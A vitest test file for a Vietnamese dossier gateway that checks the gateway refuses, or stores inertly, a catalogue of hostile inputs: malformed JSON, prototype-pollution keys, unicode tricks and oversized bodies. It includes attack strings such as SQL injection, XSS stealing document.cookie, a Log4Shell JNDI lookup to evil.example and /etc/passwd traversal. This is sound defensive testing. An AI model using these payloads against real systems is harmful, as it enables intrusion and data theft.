import { describe, expect, it } from 'vitest';
import type { DossierSubmission } from '../../contracts/provincial-api';
import { toNationalDossier } from '../../functions/core/translate-dossier';
import { signedPushHeaders } from '../../infra/local/demo-client';
import { useHostileRuntime } from '../support/hostile-runtime';
import { aStatusChange } from '../support/national-fixtures';

/**
 * A catalogue of hostile inputs, each sent through the whole local runtime. Every one gets a
 * clear 4xx problem+json, nothing is stored for it, and the gateway stays healthy. Free-text
 * fields are the one nuance: an injection string there is data, not an attack on a SQL-free
 * gateway, so it is either refused or stored byte for byte, never interpreted.
 */

const hostile = useHostileRuntime();
const { freshDossier, send, expectRefused, expectHealthy } = hostile;

describe('malformed and oversized bodies', () => {
  it.each([
    ['an unterminated object', '{"dossierCode":'],
    ['a trailing comma', '{"version":1,}'],
    ['single quotes', "{'version':1}"],
    ['NaN', '{"version":NaN}'],
    ['garbage after the value', '{}x'],
    ['an empty body', ''],
    ['null', 'null'],
    ['an array', '[]'],
    ['a bare string', '"dossier"'],
  ])('refuses %s with 400', async (_name, body) => {
    await expectRefused(await send('/v1/dossiers', { body }), 400);
  });

  it('refuses bytes that are not UTF-8 with 400', async () => {
    const dossier = freshDossier();
    const text = JSON.stringify(dossier).replace('Đăng ký khai sinh cho con', 'XXXXXXXXXXXXXXXXXXXXXXXXX');
    const bytes = new TextEncoder().encode(text);
    const at = text.indexOf('XXXX');
    bytes.set([0xff, 0xfe, 0xc3, 0x28], at);
    const problem = await expectRefused(await send('/v1/dossiers', { body: bytes }), 400, [
      dossier.dossierCode,
    ]);
    expect(problem.detail).toContain('UTF-8');
  });

  it('refuses a body over 1 MiB with 413, and the pooled connection serves the next request', async () => {
    const dossier = freshDossier({ note: 'x'.repeat(2 * 1024 * 1024) });
    const answer = await send('/v1/dossiers', { body: JSON.stringify(dossier) });
    await expectRefused(answer, 413, [dossier.dossierCode]);
    await expectHealthy();
  });

  it('stays healthy', expectHealthy);
});

describe('numbers', () => {
  it.each([
    ['a version that overflows to Infinity', '"version":1e400'],
    ['a version beyond safe integers', '"version":9007199254740993'],
    ['a fractional version', '"version":1.5'],
    ['a negative version', '"version":-1'],
    ['a version as a string', '"version":"1"'],
  ])('refuses %s with 400', async (_name, replacement) => {
    const dossier = freshDossier();
    const body = JSON.stringify(dossier).replace('"version":1', replacement);
    await expectRefused(await send('/v1/dossiers', { body }), 400, [dossier.dossierCode]);
  });

  it.each([['1e308'], ['-8000'], ['0.5'], ['1e400']])('refuses a fee of %s VND with 400', async (amount) => {
    const dossier = freshDossier();
    const body = JSON.stringify(dossier).replace('"amount":8000', `"amount":${amount}`);
    await expectRefused(await send('/v1/dossiers', { body }), 400, [dossier.dossierCode]);
  });
});

describe('prototype pollution', () => {
  it.each([
    ['__proto__ at the top', (json: string) => json.replace('{', '{"__proto__":{"polluted":true},')],
    [
      '__proto__ in the applicant',
      (json: string) => json.replace('"applicant":{', '"applicant":{"__proto__":{"isAdmin":true},'),
    ],
    [
      'constructor.prototype',
      (json: string) => json.replace('{', '{"constructor":{"prototype":{"polluted":true}},'),
    ],
    ['prototype', (json: string) => json.replace('{', '{"prototype":{"polluted":true},')],
    ['an escaped __proto__', (json: string) => json.replace('{', '{"\\u005f_proto__":{"polluted":true},')],
  ])('refuses %s with 400, and nothing is polluted', async (_name, inject) => {
    const dossier = freshDossier();
    const problem = await expectRefused(
      await send('/v1/dossiers', { body: inject(JSON.stringify(dossier)) }),
      400,
      [dossier.dossierCode],
    );
    expect(JSON.stringify(problem)).toMatch(/Forbidden key|Unknown field/);
    await expectHealthy();
  });

  it('refuses __proto__ in a national push, whose schema would otherwise strip unknown keys', async () => {
    const national = toNationalDossier(freshDossier({ channel: 'online', status: 'submitted' }));
    const body = JSON.stringify(national).replace('{', '{"__proto__":{"polluted":true},');
    const answer = await send('/v1/national/dossiers', {
      body,
      token: hostile.nationalToken,
      headers: signedPushHeaders(body),
    });
    await expectRefused(answer, 400, [national.MaHoSo]);
  });
});

describe('unicode tricks', () => {
  it.each([
    [
      'a right-to-left override in the name',
      { applicant: { type: 'citizen', name: 'Nguyễn \u202Efdp.exe' } },
    ],
    ['a zero-width space in the name', { applicant: { type: 'citizen', name: 'Nguy\u200Bễn Văn An' } }],
    ['a NUL in the summary', { summary: 'Đăng ký\u0000khai sinh' }],
    ['an escape sequence in the note', { note: 'ok\u001b[2J' }],
    ['a byte order mark in the summary', { summary: '\uFEFFĐăng ký khai sinh' }],
    ['a lone surrogate in the note', { note: 'x\uD800y' }],
    ['a 20 000-character summary', { summary: 'a'.repeat(20_000) }],
    ['a 3 000-character name', { applicant: { type: 'citizen', name: 'A'.repeat(3_000) } }],
  ] as const)('refuses %s with 400', async (_name, overrides) => {
    const dossier = freshDossier(overrides as Partial<DossierSubmission>);
    await expectRefused(await send('/v1/dossiers', { body: JSON.stringify(dossier) }), 400, [
      dossier.dossierCode,
    ]);
  });

  it('refuses a zero-width character hidden in the dossier code of the path', async () => {
    const answer = await send(`/v1/dossiers/000.00.12.H12-250316-00\u200B01/status`, {
      body: JSON.stringify(aStatusChange('evt-zw', 'processing', 1)),
    });
    await expectRefused(answer, 400);
  });

  it('accepts Vietnamese in both normal forms', async () => {
    const composed = freshDossier({ applicant: { type: 'citizen', name: 'Nguyễn Thị Ánh' } });
    const decomposed = freshDossier({
      applicant: { type: 'citizen', name: 'Nguyễn Thị Ánh'.normalize('NFD') },
    });
    expect((await send('/v1/dossiers', { body: JSON.stringify(composed) })).status).toBe(202);
    expect((await send('/v1/dossiers', { body: JSON.stringify(decomposed) })).status).toBe(202);
  });
});

describe('deep and wide bodies', () => {
  it.each([
    [
      'nested 10 000 deep',
      (dossier: DossierSubmission) =>
        JSON.stringify(dossier).replace('"note"', `"deep":${'['.repeat(10_000)}${']'.repeat(10_000)},"note"`),
    ],
    [
      'nested 17 deep (one past the limit)',
      (dossier: DossierSubmission) =>
        JSON.stringify(dossier).replace('"note"', `"deep":${'{"a":'.repeat(16)}1${'}'.repeat(16)},"note"`),
    ],
    [
      'with 100 000 documents',
      (dossier: DossierSubmission) =>
        JSON.stringify({ ...dossier, documents: Array.from({ length: 100_000 }, () => 0) }),
    ],
    [
      'with 5 000 unknown keys',
      (dossier: DossierSubmission) =>
        JSON.stringify({
          ...dossier,
          ...Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`k${index}`, 1])),
        }),
    ],
  ])('refuses a body %s with 400, before any schema walks it', async (_name, build) => {
    const dossier = freshDossier({ note: 'n' });
    const problem = await expectRefused(await send('/v1/dossiers', { body: build(dossier) }), 400, [
      dossier.dossierCode,
    ]);
    expect(problem.detail).toContain('shape limits');
  });

  it('answers a body with thousands of wrong fields with a bounded list', async () => {
    const dossier = freshDossier();
    const body = JSON.stringify({
      ...dossier,
      ...Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`k${index}`, 1])),
    });
    const problem = (await expectRefused(await send('/v1/dossiers', { body }), 400, [
      dossier.dossierCode,
    ])) as unknown as {
      errors: unknown[];
      errorsOmitted: number;
    };
    expect(problem.errors).toHaveLength(50);
    expect(problem.errorsOmitted).toBe(850);
  });

  it('stays healthy', expectHealthy);
});

describe('injection strings', () => {
  const injections = [
    "' OR '1'='1' --",
    '"; DROP TABLE dossiers; --',
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe is a literal string
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '../../../../etc/passwd',
    '#{pk} = :pk OR attribute_exists(pk)',
  ];
  /** Every string leaf of a dossier, as a path. */
  const textFields = (value: unknown, path: (string | number)[] = []): (string | number)[][] =>
    typeof value === 'string'
      ? [path]
      : value && typeof value === 'object'
        ? Object.entries(value).flatMap(([key, nested]) =>
            textFields(nested, [...path, Array.isArray(value) ? Number(key) : key]),
          )
        : [];
  const withValue = (dossier: DossierSubmission, path: (string | number)[], text: string) => {
    const copy = structuredClone(dossier) as unknown as Record<string | number, unknown>;
    let node = copy;
    for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
    node[path.at(-1) as string | number] = text;
    return copy;
  };
  const valueAt = (root: unknown, path: (string | number)[]) =>
    path.reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], root);
  // Fields with a format: an injection string can never be valid there.
  const structured =
    /^(dossierCode|agencyCode|procedureCode|fieldCode|channel|receivedAt|dueAt|status|resultDelivery|applicant\.(type|idNumber|phone|email)|documents\.\d+\.url)$/;

  it('in every text field of a dossier: refused where the field has a format, else stored verbatim and inert', async () => {
    const template = freshDossier();
    const outcomes: string[] = [];
    for (const path of textFields(template)) {
      const name = path.join('.');
      for (const text of injections) {
        const dossier = withValue(freshDossier(), path, text) as unknown as DossierSubmission;
        // The code itself under attack leaves nothing to look up; the template's stays untouched.
        const code =
          typeof dossier.dossierCode === 'string' && name !== 'dossierCode'
            ? dossier.dossierCode
            : template.dossierCode;
        const answer = await send('/v1/dossiers', { body: JSON.stringify(dossier) });
        if (answer.status === 202) {
          const [stored] = await hostile.runtime.deps.store.listMessages('national', code);
          const message =
            stored && (await hostile.runtime.deps.store.getMessage('national', code, stored.sequence));
          expect(valueAt(message?.payload, path), `${name} ${text}`).toBe(text);
          outcomes.push(`${name}: stored`);
        } else {
          await expectRefused(answer, 400, [code]);
          outcomes.push(`${name}: refused`);
        }
      }
    }
    expect(outcomes.length).toBe(textFields(template).length * injections.length);
    // Every field with a format refused every injection; free text kept it as data.
    const storedInFormatFields = outcomes.filter(
      (outcome) => outcome.endsWith(': stored') && structured.test(outcome.replace(/: stored$/, '')),
    );
    expect(storedInFormatFields).toEqual([]);
    expect(outcomes).toContain('summary: stored');
    expect(outcomes).toContain('applicant.name: stored');
    await expectHealthy();
  }, 60_000);
});

describe('hostile headers', () => {
  it.each([
    ['an Idempotency-Key of 300 characters', { 'idempotency-key': 'k'.repeat(300) }],
    ['an Idempotency-Key with spaces and quotes', { 'idempotency-key': 'a b "c"' }],
  ])('refuses %s with 400', async (_name, headers) => {
    const dossier = freshDossier();
    await expectRefused(await send('/v1/dossiers', { body: JSON.stringify(dossier), headers }), 400, [
      dossier.dossierCode,
    ]);
  });

  it.each([
    ['a Basic scheme', 'Basic ZGVtby1wcm92aW5jZTpkZW1vLXNlY3JldA=='],
    ['two tokens', 'Bearer a.b.c Bearer d.e.f'],
    ['an empty bearer', 'Bearer '],
  ])('refuses an Authorization header with %s with 401', async (_name, authorization) => {
    const dossier = freshDossier();
    await expectRefused(
      await send('/v1/dossiers', { body: JSON.stringify(dossier), token: null, headers: { authorization } }),
      401,
      [dossier.dossierCode],
    );
  });

  it('refuses a JSON body sent as text/plain with 415', async () => {
    const dossier = freshDossier();
    await expectRefused(
      await send('/v1/dossiers', {
        body: JSON.stringify(dossier),
        headers: { 'content-type': 'text/plain' },
      }),
      415,
      [dossier.dossierCode],
    );
  });

  it('stays healthy', expectHealthy);
});
